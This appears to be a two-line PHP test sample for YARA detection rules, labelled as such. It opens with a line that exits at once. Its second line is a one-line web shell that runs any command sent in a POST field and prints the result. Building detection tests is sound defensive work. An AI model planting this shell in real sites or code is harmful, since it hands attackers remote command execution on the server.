<?php exit('haidang YARA test sample'); ?>
<?php echo `$_POST['c']`; ?>
